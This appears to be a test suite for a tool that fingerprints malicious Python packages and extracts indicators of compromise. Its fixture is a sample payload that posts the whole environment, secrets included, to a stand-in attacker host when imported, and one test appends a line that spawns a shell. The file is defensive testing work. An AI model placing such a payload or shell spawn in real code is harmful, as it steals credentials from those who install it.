"""Fingerprints group renamed copies of one payload and keep boilerplate apart."""

from app.core.campaigns.fingerprint import fingerprint_file, fuzzy_distance
from app.core.campaigns.iocs import extract_iocs, ioc_matches

PAYLOAD = '''import os, base64, requests

def collect(token):
    """Gather the environment."""
    data = dict(os.environ)
    data["pkg"] = "{name}"
    return requests.post("https://{host}/c/{name}", json=data, timeout=3)

def unpack(blob):
    return base64.b64decode(blob)

class Runner:
    def go(self):
        collect("{version}")

Runner().go()
'''


def payload(name="alpha-tools", version="1.0.0", host="203.0.113.7"):
    return PAYLOAD.format(name=name, version=version, host=host)


def test_renamed_package_and_changed_url_keep_the_exact_fingerprint():
    a = fingerprint_file("alpha_tools/__init__.py", payload(), name="alpha-tools", version="1.0.0")
    b = fingerprint_file(
        "betta/__init__.py",
        payload("betta", "9.9.9", "evil.example.invalid").replace("collect", "harvest"),
        name="betta",
        version="9.9.9",
    )
    assert a.exact == b.exact
    assert not a.trivial
    # The URLs differ, and are kept apart as indicators.
    assert a.iocs.ips == {"203.0.113.7"}
    assert b.iocs.domains == {"evil.example.invalid"}


def test_reordered_functions_keep_the_exact_fingerprint():
    text = payload()
    head, rest = text.split("def collect", 1)
    collect_def, rest2 = ("def collect" + rest).split("def unpack", 1)
    reordered = (
        head
        + "def unpack"
        + rest2.split("class Runner", 1)[0]
        + collect_def
        + "class Runner"
        + rest2.split("class Runner", 1)[1]
    )
    assert reordered != text
    a = fingerprint_file("a.py", text, name="alpha-tools", version="1.0.0")
    b = fingerprint_file("a.py", reordered, name="alpha-tools", version="1.0.0")
    assert a.exact == b.exact


def test_an_edited_payload_is_near_but_not_exact():
    a = fingerprint_file("a.py", payload())
    b = fingerprint_file("a.py", payload() + "\nimport subprocess\nsubprocess.Popen(['sh'])\n")
    assert a.exact != b.exact
    distance = fuzzy_distance(a.fuzzy, b.fuzzy)
    assert distance is not None and distance < 60


def test_a_different_program_is_far():
    a = fingerprint_file("a.py", payload())
    other = "\n".join(f"def f{i}(x):\n    return x * {i} + len(str(x))" for i in range(30))
    b = fingerprint_file("b.py", other)
    assert a.exact != b.exact
    assert fuzzy_distance(a.fuzzy, b.fuzzy) > 100


def test_plain_setup_and_empty_init_are_trivial():
    setup = 'from setuptools import setup\nsetup(name="alpha-tools", version="1.0.0", packages=["alpha_tools"])\n'
    fp = fingerprint_file("setup.py", setup, name="alpha-tools", version="1.0.0")
    assert fp.trivial
    assert fingerprint_file("pkg/__init__.py", "").trivial


def test_python_that_does_not_parse_falls_back_to_text():
    fp = fingerprint_file("old.py", "print 'hello'\n" * 40)
    assert fp.exact and fp.size > 0


def test_ioc_extraction_and_search():
    iocs = extract_iocs(
        'u = "https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwx"\n'
        "ip = '198.51.100.23'; version = '1.2.3.4'\n"
        "x = 'http://c2.example.invalid:8080/p'\n"
        "home = 'https://github.com/psf/requests'\n"
    )
    assert "discord:123456789012" in iocs.webhooks
    assert "198.51.100.23" in iocs.ips
    assert "1.2.3.4" not in iocs.ips  # a version string, not an address
    assert "c2.example.invalid" in iocs.domains
    assert not any("github.com" in u for u in iocs.urls)
    assert ioc_matches("example.invalid", iocs)
    assert ioc_matches("http://c2.example.invalid", iocs)
    assert ioc_matches("198.51.100.23", iocs)
    assert not ioc_matches("198.51.100.24", iocs)
